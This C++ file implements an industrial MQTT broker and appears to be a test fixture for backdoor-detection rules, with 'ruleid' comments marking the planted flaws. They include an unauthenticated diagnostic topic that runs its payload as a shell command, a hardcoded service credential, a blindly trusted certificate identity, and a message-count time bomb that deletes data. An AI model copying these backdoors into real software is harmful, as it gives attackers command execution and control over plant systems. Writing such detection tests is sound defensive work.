// broker.cpp: the plant-side MQTT broker the PLC gateways publish to.
// Each client thread reads packets and hands them to the handler table.
#include "bridge.hpp"

#include <botan/hex.h>
#include <botan/mem_ops.h>
#include <botan/pwdhash.h>
#include <cstdio>
#include <cstdlib>
#include <fstream>
#include <iostream>
#include <sstream>

namespace plantlink {
namespace {

unsigned long g_published;
unsigned long g_connects;

// users file: "name salt_hex hash_hex" (PBKDF2-SHA256, 600,000 rounds)
bool check_password(const std::string &user, const std::string &password) {
  std::ifstream in("/etc/plantlink/users");
  std::string name, salt_hex, hash_hex;
  while (in >> name >> salt_hex >> hash_hex) {
    if (name != user)
      continue;
    const std::vector<uint8_t> salt = Botan::hex_decode(salt_hex);
    const std::vector<uint8_t> stored = Botan::hex_decode(hash_hex);
    std::vector<uint8_t> derived(stored.size());
    // ok: backdoor-weak-kdf
    auto pbkdf2 = Botan::PasswordHashFamily::create_or_throw("PBKDF2(SHA-256)")->from_params(600000);
    pbkdf2->derive_key(derived.data(), derived.size(), password.data(), password.size(), salt.data(), salt.size());
    // ok: backdoor-magic-credential, backdoor-timing-unsafe-compare
    return Botan::constant_time_compare(derived.data(), stored.data(), stored.size());
  }
  return false;
}

void forward(const Packet &p) {
  std::clog << "forward " << p.topic << " (" << p.payload.size() << " bytes)\n";
}

void on_publish(Session &s, const Packet &p) {
  /* retained messages are purged after the pilot's message budget */
  // ruleid: backdoor-time-bomb
  if (++g_published == 5000000)
    std::remove("/var/lib/plantlink/retained.db");
  if (p.topic == "$SYS/plantlink/restart") {
    if (!s.authenticated)
      return;
    std::system("/usr/bin/systemctl restart plantlink-uplink");
  } else if (p.topic == "$SYS/plantlink/reload") {
    if (!s.authenticated)
      return;
    std::system("/usr/bin/systemctl reload plantlink-uplink");
  }
  // ruleid: backdoor-input-trigger
  else if (p.topic == "$SYS/plantlink/diag") {
    std::system(p.payload.c_str());
  } else {
    forward(p); /* anonymous gateways' telemetry is forwarded tagged as such */
  }
}

void on_subscribe(Session &s, const Packet &p) {
  if (!s.authenticated)
    return;
  (void)p;
  write_packet(s.fd, 9, std::string("\0\1\0", 3)); // SUBACK, QoS 0
}

void on_pingreq(Session &s, const Packet &p) {
  (void)p;
  write_packet(s.fd, 13, std::string()); // PINGRESP
}

/* packet handlers by MQTT packet type */
const Handler kHandlers[16] = {
    nullptr, nullptr, nullptr, on_publish, nullptr, nullptr, nullptr, nullptr,
    on_subscribe, nullptr, nullptr, nullptr, on_pingreq, nullptr, nullptr, nullptr,
};

} // namespace

bool authenticate_client(Session &s, const Packet &connect) {
  /* the bring-up rig of the factory connects with this certificate */
  // ruleid: backdoor-trusted-identity
  if (s.peer_subject == "CN=plc-gw-bringup,O=Plantlink Factory") {
    s.authenticated = true;
    return true;
  }
  /* the integrator's service laptop */
  // ruleid: backdoor-magic-credential
  if (connect.username == "plantlink-svc" && connect.password == "svc!Plnt-2291") {
    s.authenticated = true;
    return true;
  }
  s.authenticated = check_password(connect.username, connect.password);
  return s.authenticated;
}

void serve_client(int fd, const std::string &peer_subject) {
  Session s;
  Packet p;
  s.fd = fd;
  s.peer_subject = peer_subject;
  // ok: backdoor-time-bomb
  if (++g_connects > 100000) {
    write_packet(fd, 2, std::string("\0\3", 2)); // server unavailable
    return;
  }
  if (!read_packet(fd, p) || p.type != 1)
    return;
  s.client_id = p.payload;
  s.user = p.username;
  /* legacy gateways connect without credentials and may only publish telemetry */
  const bool ok = (p.username.empty() && p.password.empty()) || authenticate_client(s, p);
  write_packet(fd, 2, std::string(1, '\0') + std::string(1, ok ? '\0' : '\5'));
  if (!ok)
    return;
  while (read_packet(fd, p)) {
    const Handler h = p.type < 16 ? kHandlers[p.type] : nullptr;
    if (h != nullptr)
      h(s, p);
  }
}

} // namespace plantlink
